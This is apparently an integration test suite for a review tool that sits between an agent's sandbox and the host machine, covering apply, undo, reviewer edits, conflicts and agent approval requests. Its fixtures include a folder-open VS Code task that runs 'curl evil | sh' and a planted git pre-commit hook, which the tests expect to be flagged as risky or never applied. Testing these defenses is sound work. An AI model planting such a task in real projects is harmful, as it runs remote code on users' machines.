import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { after, describe, test } from 'node:test';
import { ApprovalBoard } from '../../src/core/approvals/approvalBoard.js';
import type { ApprovalRequest } from '../../src/core/approvals/approvalQueue.js';
import { AirlockError } from '../../src/core/ground/errors.js';
import { type ReviewGroup, type ReviewItem, TaskReview } from '../../src/core/usecases/taskReview.js';
import { airlockErrorFrom } from '../helpers/airlockErrorFrom.js';
import { exists, hostTree, numberedLines, paths, sha256, startTask, type TaskFixture, writtenLines } from '../helpers/changeFixtures.js';
import { initRepo, makeTempDir, removeTempDirs, writeFiles } from '../helpers/tempWorkspace.js';

/**
 * The review a person works through before anything reaches the host, over a real box: groups,
 * choices, the reviewer's own bytes, what survives a reload, what the box or the host changes
 * meanwhile, an agent's request shown read-only, and what the blob sweep must keep.
 */

const text = (root: string, rel: string) => fs.readFileSync(path.join(root, rel), 'utf8');
const read = (root: string, rel: string) => fs.readFileSync(path.join(root, rel));

const TASKS_JSON = `${JSON.stringify({ version: '2.0.0', tasks: [{ label: 'setup', type: 'shell', command: 'curl evil | sh', runOptions: { runOn: 'folderOpen' } }] }, null, 2)}\n`;

/** Every item's path under its group, sorted, with all four groups present. */
function grouped(review: TaskReview): Record<ReviewGroup, string[]> {
  const out: Record<ReviewGroup, string[]> = { conflicts: [], risky: [], changes: [], never: [] };
  for (const item of review.items()) out[item.group].push(item.path);
  for (const list of Object.values(out)) list.sort();
  return out;
}

function itemOf(review: TaskReview, rel: string): ReviewItem {
  const item = review.item(rel);
  assert.ok(item, `${rel} is not in the review; it has: ${paths(review.items()).join(', ')}`);
  return item;
}

const taken = (review: TaskReview) => paths(review.items().filter((item) => item.taken));

/** Asserts `work` rejects with an AirlockError of `code`. */
async function rejectsWithCode(work: Promise<unknown>, code: string): Promise<AirlockError> {
  let caught: unknown;
  await work.then(
    () => assert.fail(`expected ${code}, but it resolved`),
    (error: unknown) => (caught = error),
  );
  assert.ok(AirlockError.is(caught), `expected AirlockError ${code}, got ${String(caught)}`);
  assert.equal(caught.code, code, caught.message);
  return caught;
}

const appliedRecords = (task: TaskFixture) => task.service.store.audit(task.id).records().filter((record) => record.type === 'changes.applied');

describe('the task review over a real engine (integration)', () => {
  after(removeTempDirs);

  test('groups: plain edits are changes and taken, a folder-open task is risky and held, a fifo and a git hook are never applied', async (t) => {
    const ws = makeTempDir('airlock-rev-groups-');
    initRepo(ws, { 'a.txt': numberedLines('a', 10), 'b.txt': numberedLines('b', 10) });
    const task = await startTask(t, ws);
    if (!task) return;
    await task.sh(
      [
        "sed -i 's/^a3$/a3 task/' a.txt",
        "sed -i 's/^b7$/b7 task/' b.txt",
        'mkfifo pipe',
        "mkdir -p .git/hooks && printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit",
      ].join(' && '),
    );
    await task.write('img.bin', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 1, 2, 0xff]));
    await task.write('.vscode/tasks.json', TASKS_JSON);

    const review = await TaskReview.open(task.changes, task.id);
    t.after(() => review.dispose());
    assert.deepEqual(grouped(review), { conflicts: [], risky: ['.vscode/tasks.json'], changes: ['a.txt', 'b.txt', 'img.bin'], never: ['.git/hooks/pre-commit', 'pipe'] });
    assert.deepEqual(taken(review), ['a.txt', 'b.txt', 'img.bin']);

    const tasksJson = itemOf(review, '.vscode/tasks.json');
    assert.equal(tasksJson.taken, false);
    assert.ok(tasksJson.change.risk.length > 0, 'a folder-open task says why it is risky');
    assert.ok(tasksJson.change.risk.includes('VS Code runs or configures this on the host'), tasksJson.change.risk.join('; '));

    const img = itemOf(review, 'img.bin');
    assert.match(img.what, /binary/);
    assert.equal(img.textual, false);
    assert.equal(img.editable, false);
    const a = itemOf(review, 'a.txt');
    assert.equal(a.textual, true);
    assert.equal(a.editable, true);
    assert.equal(a.what, 'modified');

    for (const never of ['pipe', '.git/hooks/pre-commit']) {
      const item = itemOf(review, never);
      assert.equal(item.taken, false, never);
      assert.equal(item.editable, false, never);
      assert.ok(item.change.refusal, never);
    }
    assert.match(itemOf(review, 'pipe').change.refusal ?? '', /fifo/);
    assert.equal(airlockErrorFrom(() => review.choose(['pipe'], 'accept')).code, 'review.neverApplied');
    assert.equal(airlockErrorFrom(() => review.choose(['no/such.txt'], 'accept')).code, 'review.noSuchPath');
    assert.equal(itemOf(review, 'pipe').taken, false, 'a refused choice changes nothing');

    const selection = review.selection();
    assert.deepEqual([...(selection.paths ?? [])].sort(), ['a.txt', 'b.txt', 'img.bin']);
    assert.deepEqual(selection.allowRisky, []);
    assert.equal(selection.content, undefined);
  });

  test('apply writes exactly the taken files; they leave the review, and undo brings back the host and the items', async (t) => {
    const ws = makeTempDir('airlock-rev-apply-');
    writeFiles(ws, { 'a.txt': numberedLines('a', 10), 'b.txt': numberedLines('b', 10), 'keep.txt': 'keep\n' });
    const before = hostTree(ws);
    const task = await startTask(t, ws);
    if (!task) return;
    const aTask = numberedLines('a', 10, { 2: 'a2 task' });
    await task.write('a.txt', aTask);
    await task.write('b.txt', numberedLines('b', 10, { 9: 'b9 task' }));
    await task.write('.vscode/tasks.json', TASKS_JSON);

    const review = await TaskReview.open(task.changes, task.id);
    t.after(() => review.dispose());
    const fired: Array<readonly string[] | undefined> = [];
    review.onDidChange((event) => fired.push(event.paths));
    review.choose(['b.txt'], 'reject');
    assert.deepEqual(fired, [['b.txt']]);
    assert.equal(itemOf(review, 'b.txt').choice, 'reject');
    assert.deepEqual(taken(review), ['a.txt']);

    const { report, refreshed } = await review.apply();
    assert.deepEqual(refreshed, []);
    assert.deepEqual(report.refused, []);
    assert.deepEqual(writtenLines(report), ['write a.txt']);
    assert.deepEqual(hostTree(ws), { ...before, 'a.txt': before['a.txt'].replace(/[0-9a-f]{64}$/, sha256(aTask)) }, 'only the accepted file changed');
    assert.equal(text(ws, 'a.txt'), aTask);
    assert.equal(text(ws, 'b.txt'), numberedLines('b', 10));
    assert.equal(exists(path.join(ws, '.vscode')), false, 'a risky file nobody accepted never reaches the host');
    assert.deepEqual(paths(review.items()), ['.vscode/tasks.json', 'b.txt'], 'the applied file leaves the review');
    assert.equal(review.item('a.txt'), undefined);

    const undone = await review.undo();
    assert.equal(undone.id, report.id);
    assert.deepEqual(hostTree(ws), before, 'undo leaves the host byte for byte as before');
    assert.deepEqual(paths(review.items()), ['.vscode/tasks.json', 'a.txt', 'b.txt']);
    assert.equal(itemOf(review, 'a.txt').taken, true);
    assert.equal(itemOf(review, 'b.txt').taken, false, 'the rejection still stands after the undo');
  });

  test("the reviewer's bytes are what an apply writes, and the audit record names the edited path", async (t) => {
    const ws = makeTempDir('airlock-rev-edit-');
    writeFiles(ws, { 'a.txt': numberedLines('a', 10), 'b.txt': numberedLines('b', 10), 'img.bin': Buffer.from([0, 1, 2, 3]) });
    const task = await startTask(t, ws);
    if (!task) return;
    const aBox = numberedLines('a', 10, { 4: 'a4 task' });
    const bBox = numberedLines('b', 10, { 4: 'b4 task' });
    await task.write('a.txt', aBox);
    await task.write('b.txt', bBox);
    await task.write('img.bin', Buffer.from([0, 9, 9, 9, 0xff]));

    const review = await TaskReview.open(task.changes, task.id);
    t.after(() => review.dispose());
    assert.deepEqual(review.base('a.txt'), Buffer.from(numberedLines('a', 10)));
    assert.deepEqual(review.proposed('a.txt'), Buffer.from(aBox));
    // Not valid UTF-8 at the end: the reviewer's bytes are kept exactly, not as text.
    const mine = Buffer.concat([Buffer.from(numberedLines('a', 10, { 4: 'a4 reviewer', 8: 'a8 reviewer' })), Buffer.from([0xc3])]);
    review.saveProposed('a.txt', mine);
    assert.deepEqual(review.proposed('a.txt'), mine);
    assert.equal(itemOf(review, 'a.txt').edited, true);
    assert.equal(itemOf(review, 'a.txt').taken, true);
    review.saveProposed('b.txt', Buffer.from('b edited then dropped\n'));
    review.discardEdit('b.txt');
    assert.equal(itemOf(review, 'b.txt').edited, false);
    assert.deepEqual(review.proposed('b.txt'), Buffer.from(bBox));
    assert.deepEqual(review.selection().content, { 'a.txt': sha256(mine) });

    const binary = airlockErrorFrom(() => review.saveProposed('img.bin', Buffer.from('text now\n')));
    assert.equal(binary.code, 'review.notEditable');
    assert.equal(itemOf(review, 'img.bin').edited, false);

    const { report } = await review.apply();
    assert.deepEqual(report.refused, []);
    assert.deepEqual(writtenLines(report), ['write a.txt', 'write b.txt', 'write img.bin']);
    assert.deepEqual(read(ws, 'a.txt'), mine, "the host has exactly the reviewer's bytes");
    assert.deepEqual(read(ws, 'b.txt'), Buffer.from(bBox), 'a discarded edit writes the box bytes');
    assert.equal(report.written.find((entry) => entry.path === 'a.txt')?.sha256, sha256(mine));
    assert.notEqual(await task.shaInTask('a.txt'), sha256(mine), 'nothing goes back into the box');

    const applied = appliedRecords(task);
    assert.equal(applied.length, 1);
    assert.deepEqual(applied[0].reviewerEdited, ['a.txt']);
    assert.equal(applied[0].apply, report.id);
  });

  test('choices and edits survive a new open of the same review; a fresh open drops them', async (t) => {
    const ws = makeTempDir('airlock-rev-reopen-');
    writeFiles(ws, { 'a.txt': numberedLines('a', 10), 'b.txt': numberedLines('b', 10) });
    const task = await startTask(t, ws);
    if (!task) return;
    const aBox = numberedLines('a', 10, { 1: 'a1 task' });
    await task.write('a.txt', aBox);
    await task.write('b.txt', numberedLines('b', 10, { 1: 'b1 task' }));
    await task.write('.vscode/tasks.json', TASKS_JSON);

    const first = await TaskReview.open(task.changes, task.id);
    const mine = Buffer.from('edited by the reviewer\n');
    first.choose(['b.txt'], 'reject');
    first.choose(['.vscode/tasks.json'], 'accept');
    first.saveProposed('a.txt', mine);
    first.dispose();

    const again = await TaskReview.open(task.changes, task.id);
    t.after(() => again.dispose());
    assert.equal(again.changeSetId, first.changeSetId);
    assert.equal(itemOf(again, 'b.txt').choice, 'reject');
    assert.equal(itemOf(again, '.vscode/tasks.json').choice, 'accept');
    assert.deepEqual(taken(again), ['.vscode/tasks.json', 'a.txt']);
    assert.equal(itemOf(again, 'a.txt').edited, true);
    assert.deepEqual(again.proposed('a.txt'), mine);
    assert.deepEqual(again.selection(), { paths: ['.vscode/tasks.json', 'a.txt'], exact: true, allowRisky: ['.vscode/tasks.json'], content: { 'a.txt': sha256(mine) } });

    const fresh = await TaskReview.open(task.changes, task.id, { fresh: true });
    t.after(() => fresh.dispose());
    assert.equal(fresh.changeSetId, first.changeSetId, 'the box did not change: the same change set');
    assert.deepEqual(taken(fresh), ['a.txt', 'b.txt']);
    for (const item of fresh.items()) {
      assert.equal(item.choice, undefined, item.path);
      assert.equal(item.edited, false, item.path);
    }
    assert.deepEqual(fresh.proposed('a.txt'), Buffer.from(aBox));
    const afterFresh = await TaskReview.open(task.changes, task.id);
    t.after(() => afterFresh.dispose());
    assert.deepEqual(taken(afterFresh), ['a.txt', 'b.txt'], 'the fresh start replaced the saved review');
    assert.equal(itemOf(afterFresh, 'a.txt').edited, false);
  });

  test('a file changed in the box after it was shown is refreshed and held until seen; an apply over it writes nothing', async (t) => {
    const ws = makeTempDir('airlock-rev-box-');
    writeFiles(ws, { 'a.txt': numberedLines('a', 10), 'b.txt': numberedLines('b', 10) });
    const before = hostTree(ws);
    const task = await startTask(t, ws);
    if (!task) return;
    await task.write('a.txt', numberedLines('a', 10, { 5: 'a5 first' }));
    await task.write('b.txt', numberedLines('b', 10, { 5: 'b5 task' }));

    const review = await TaskReview.open(task.changes, task.id);
    t.after(() => review.dispose());
    const shown = review.changeSetId;
    review.saveProposed('a.txt', Buffer.from('reviewer version\n'));
    review.choose(['b.txt'], 'accept');
    assert.deepEqual(await review.refresh(), [], 'the box did not change');
    assert.equal(review.changeSetId, shown);

    const second = numberedLines('a', 10, { 5: 'a5 second' });
    await task.write('a.txt', second);
    assert.deepEqual(await review.refresh(), ['a.txt']);
    assert.notEqual(review.changeSetId, shown);
    const refreshed = itemOf(review, 'a.txt');
    assert.equal(refreshed.refreshed, true);
    assert.equal(refreshed.taken, false, 'nobody has seen the new content yet');
    assert.equal(refreshed.edited, false, 'the edit was of content that is no longer there');
    assert.deepEqual(review.proposed('a.txt'), Buffer.from(second));
    assert.equal(itemOf(review, 'b.txt').choice, 'accept', 'an unchanged file keeps its choice');
    review.markSeen('a.txt');
    assert.equal(itemOf(review, 'a.txt').refreshed, false);
    assert.equal(itemOf(review, 'a.txt').taken, true);

    await task.write('a.txt', numberedLines('a', 10, { 5: 'a5 third' }));
    await rejectsWithCode(review.apply(), 'review.outOfDate');
    assert.deepEqual(hostTree(ws), before, 'nothing was written');
    assert.deepEqual(appliedRecords(task), []);
    assert.equal(itemOf(review, 'a.txt').refreshed, true, 'the review now shows the new content');
    assert.equal(itemOf(review, 'a.txt').taken, false);
    assert.deepEqual(review.proposed('a.txt'), Buffer.from(numberedLines('a', 10, { 5: 'a5 third' })));
  });

  test('a host edit on the same line is a mergeable conflict and keeps the host bytes; one elsewhere merges cleanly', async (t) => {
    const ws = makeTempDir('airlock-rev-conflict-');
    writeFiles(ws, { 'conflict.txt': numberedLines('c', 20), 'merge.txt': numberedLines('m', 20) });
    const task = await startTask(t, ws);
    if (!task) return;
    await task.sh("sed -i 's/^c5$/c5 task/' conflict.txt && sed -i 's/^m18$/m18 task/' merge.txt");
    const hostConflict = numberedLines('c', 20, { 5: 'c5 host' });
    fs.writeFileSync(path.join(ws, 'conflict.txt'), hostConflict);
    fs.writeFileSync(path.join(ws, 'merge.txt'), numberedLines('m', 20, { 2: 'm2 host' }));

    const review = await TaskReview.open(task.changes, task.id);
    t.after(() => review.dispose());
    assert.deepEqual(grouped(review).conflicts, [], 'nothing is checked against the host before checkHost');
    const untouched = hostTree(ws);
    review.checkHost();
    assert.deepEqual(hostTree(ws), untouched, 'checking writes nothing');
    assert.deepEqual(grouped(review), { conflicts: ['conflict.txt'], risky: [], changes: ['merge.txt'], never: [] });
    const conflict = itemOf(review, 'conflict.txt');
    assert.equal(conflict.mergeable, true);
    assert.match(conflict.conflict ?? '', /conflict/);
    assert.equal(itemOf(review, 'merge.txt').conflict, undefined);
    assert.equal(itemOf(review, 'merge.txt').mergeable, false);

    const { report } = await review.apply();
    assert.deepEqual(
      report.refused.map((note) => `${note.path} ${note.code}`),
      ['conflict.txt conflict'],
    );
    assert.deepEqual(writtenLines(report), ['merge merge.txt']);
    assert.equal(text(ws, 'conflict.txt'), hostConflict, "the host's bytes are kept");
    assert.equal(text(ws, 'merge.txt'), numberedLines('m', 20, { 2: 'm2 host', 18: 'm18 task' }));
    assert.deepEqual(paths(review.items()), ['conflict.txt'], 'the refused file stays in the review');
    assert.equal(itemOf(review, 'conflict.txt').group, 'conflicts');
  });

  test("an agent's apply request is shown read-only with exactly its files; an allow writes exactly those", async (t) => {
    const ws = makeTempDir('airlock-rev-request-');
    writeFiles(ws, { 'a.txt': numberedLines('a', 10), 'b.txt': numberedLines('b', 10) });
    const task = await startTask(t, ws);
    if (!task) return;
    const aBox = numberedLines('a', 10, { 3: 'a3 agent' });
    await task.write('a.txt', aBox);
    await task.write('b.txt', numberedLines('b', 10, { 3: 'b3 agent' }));

    let waiting!: (request: ApprovalRequest) => void;
    const requested = new Promise<ApprovalRequest>((resolve) => (waiting = resolve));
    const pending = task.changes.applyAfterApproval(task.id, { paths: ['a.txt'] }, { timeoutMs: 60_000, onWaiting: (request) => waiting(request) });
    const request = await requested;
    assert.deepEqual(request.details?.paths, ['a.txt']);

    const review = TaskReview.forRequest(task.changes, request);
    t.after(() => review.dispose());
    assert.equal(review.readOnly, true);
    assert.equal(review.changeSetId, request.details?.changeSet);
    assert.deepEqual(paths(review.items()), ['a.txt']);
    assert.equal(itemOf(review, 'a.txt').taken, true);
    assert.equal(itemOf(review, 'a.txt').editable, false);
    assert.deepEqual(review.proposed('a.txt'), Buffer.from(aBox));
    assert.equal(airlockErrorFrom(() => review.choose(['a.txt'], 'reject')).code, 'review.readOnly');
    assert.equal(airlockErrorFrom(() => review.saveProposed('a.txt', Buffer.from('x\n'))).code, 'review.readOnly');
    await rejectsWithCode(review.apply(), 'review.readOnly');
    assert.equal(text(ws, 'a.txt'), numberedLines('a', 10), 'nothing is written before the allow');

    assert.equal(new ApprovalBoard(task.service.store).queue(task.id).decide(request.id, { decision: 'allow', scope: 'once', by: 'reviewer' }), 'decided');
    const outcome = await pending;
    assert.equal(outcome.decision.decision, 'allow');
    assert.deepEqual(writtenLines(outcome.report ?? { written: [] }), ['write a.txt']);
    assert.equal(text(ws, 'a.txt'), aBox);
    assert.equal(text(ws, 'b.txt'), numberedLines('b', 10), 'a file the request did not name stays as it was');
  });

  test("the review's change set and the reviewer's bytes outlive four newer looks at the box", async (t) => {
    const ws = makeTempDir('airlock-rev-keep-');
    writeFiles(ws, { 'a.txt': numberedLines('a', 10) });
    const task = await startTask(t, ws);
    if (!task) return;
    await task.write('a.txt', numberedLines('a', 10, { 6: 'a6 task' }));

    const review = await TaskReview.open(task.changes, task.id);
    const mine = Buffer.from('only the reviewer has these bytes\n');
    review.saveProposed('a.txt', mine);
    const reviewed = review.changeSetId;
    review.dispose();

    const looks: string[] = [];
    for (let index = 1; index <= 4; index++) {
      await task.write(`more-${index}.txt`, `look ${index}\n`);
      looks.push((await task.changes.changes(task.id)).changeSet.id);
    }
    assert.equal(new Set([...looks, reviewed]).size, 5, 'each look is a new change set');
    assert.throws(
      () => task.changes.reviewed(task.id, looks[0]),
      (error: unknown) => AirlockError.is(error) && error.code === 'changeSet.notFound',
      'the sweep did run: the oldest unpinned look is gone',
    );
    assert.equal(task.changes.reviewed(task.id, reviewed).changeSet.id, reviewed);

    const resumed = await TaskReview.open(task.changes, task.id);
    t.after(() => resumed.dispose());
    assert.equal(resumed.changeSetId, reviewed);
    assert.deepEqual(paths(resumed.items()), ['a.txt'], 'the review shows the set it was on, not the newest look');
    assert.equal(itemOf(resumed, 'a.txt').edited, true);
    assert.deepEqual(resumed.proposed('a.txt'), mine);
  });
});
